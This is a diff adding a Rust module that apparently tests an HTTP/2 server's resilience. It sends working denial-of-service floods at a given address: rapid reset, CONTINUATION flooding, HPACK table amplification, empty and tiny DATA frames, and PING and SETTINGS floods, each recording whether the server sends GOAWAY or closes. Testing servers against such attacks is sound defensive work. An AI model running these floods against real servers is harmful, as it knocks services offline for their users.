@@ -1,0 +1,142 @@
+//! Attacks by many frames: each as fast as the socket takes them, until the server has enough.
+
+use super::{attack::End, frames::*};
+use std::{net::SocketAddr, pin::pin, time::Duration};
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _},
+    net::TcpStream,
+    time::timeout,
+};
+
+/// How long after the socket has broken the server's last words may still come.
+const LAST_WORDS: Duration = Duration::from_millis(500);
+/// The error code that resets a call which is not wanted any more.
+const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
+
+pub(super) async fn rapid_reset(to: SocketAddr) -> End {
+    let block = fields(PRODUCE);
+    flood(to, |wave| {
+        let of_wave = wave * 50..(wave + 1) * 50;
+        let call = |n| {
+            [
+                frame(HEADERS, END_HEADERS, stream(n), &block),
+                frame(RST_STREAM, 0, stream(n), &CANCEL),
+            ]
+            .concat()
+        };
+        of_wave.flat_map(call).collect()
+    })
+    .await
+}
+
+pub(super) async fn continuation(to: SocketAddr) -> End {
+    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
+    let rest = frame(CONTINUATION, 0, 1, &field.repeat(100));
+    flood(to, |wave| match wave {
+        0 => frame(HEADERS, 0, 1, &fields(PRODUCE)),
+        _ => rest.clone(),
+    })
+    .await
+}
+
+/// A field of 4 000 bytes is put into the server's table, and then named thousands of times in each call.
+pub(super) async fn hpack(to: SocketAddr) -> End {
+    let mut first = fields(PRODUCE);
+    first.extend_from_slice(&[0x40, 1, b'x', 127, 0xa1, 0x1e]); // indexed from now on, of 127 + 33 + 30 * 128 bytes
+    first.extend_from_slice(&[b'y'; 127 + 33 + 30 * 128]);
+    let again = [fields(PRODUCE), vec![0x80 | 62; 8_000]].concat();
+    flood(to, |wave| {
+        let block = if wave == 0 { &first } else { &again };
+        frame(HEADERS, END_HEADERS, stream(wave), block)
+    })
+    .await
+}
+
+pub(super) async fn empty_data(to: SocketAddr) -> End {
+    let nothing = frame(DATA, 0, 1, b"").repeat(1_000);
+    flood(to, |wave| match wave {
+        // A unary call: nobody reads what comes after its one message.
+        0 => frame(HEADERS, END_HEADERS, 1, &fields(PRODUCE_BATCH)),
+        _ => nothing.clone(),
+    })
+    .await
+}
+
+pub(super) async fn tiny_data(to: SocketAddr) -> End {
+    let byte = frame(DATA, 0, 1, b"x").repeat(1_000);
+    flood(to, |wave| match wave {
+        0 => {
+            let head = frame(HEADERS, END_HEADERS, 1, &fields(PRODUCE));
+            [head, frame(DATA, 0, 1, &[0, 0, 0x3f, 0xff, 0xff])].concat()
+        }
+        _ => byte.clone(),
+    })
+    .await
+}
+
+pub(super) async fn ping(to: SocketAddr) -> End {
+    let questions = frame(PING, 0, 0, &[7; 8]).repeat(1_000);
+    flood(to, |_| questions.clone()).await
+}
+
+pub(super) async fn ping_unread(to: SocketAddr) -> End {
+    flood_unread(to, &frame(PING, 0, 0, &[7; 8])).await
+}
+
+pub(super) async fn settings(to: SocketAddr) -> End {
+    let questions = frame(SETTINGS, 0, 0, b"").repeat(1_000);
+    flood(to, |_| questions.clone()).await
+}
+
+pub(super) async fn settings_unread(to: SocketAddr) -> End {
+    flood_unread(to, &frame(SETTINGS, 0, 0, b"")).await
+}
+
+/// Sends wave after wave and reads what comes, until the server closes.
+async fn flood(to: SocketAddr, mut wave: impl FnMut(u32) -> Vec<u8>) -> End {
+    let Ok(mut socket) = TcpStream::connect(to).await else {
+        return End::Refused;
+    };
+    let (mut reading, mut writing) = socket.split();
+    let writes = async {
+        let mut next = hello(FIRST_WINDOW);
+        for n in 0.. {
+            if writing.write_all(&next).await.is_err() {
+                return;
+            }
+            next = wave(n);
+        }
+    };
+    let mut reads = pin!(async {
+        let (mut room, mut incoming) = (vec![0; 64 * 1024], Incoming::default());
+        loop {
+            match reading.read(&mut room).await {
+                Ok(0) | Err(_) => return End::Closed,
+                Ok(count) => incoming.take(&room[..count]),
+            }
+            while let Some(frame) = incoming.next() {
+                if let Some(code) = frame.goaway() {
+                    return End::GoAway(code);
+                }
+            }
+        }
+    });
+    tokio::select! {
+        end = &mut reads => return end,
+        () = writes => {}
+    }
+    timeout(LAST_WORDS, reads).await.unwrap_or(End::Closed)
+}
+
+/// Sends a question again and again, and reads no answer.
+async fn flood_unread(to: SocketAddr, question: &[u8]) -> End {
+    let Ok(mut socket) = TcpStream::connect(to).await else {
+        return End::Refused;
+    };
+    let questions = question.repeat(1_000);
+    let mut next = socket.write_all(&hello(FIRST_WINDOW)).await;
+    while next.is_ok() {
+        next = socket.write_all(&questions).await;
+    }
+    End::Closed
+}
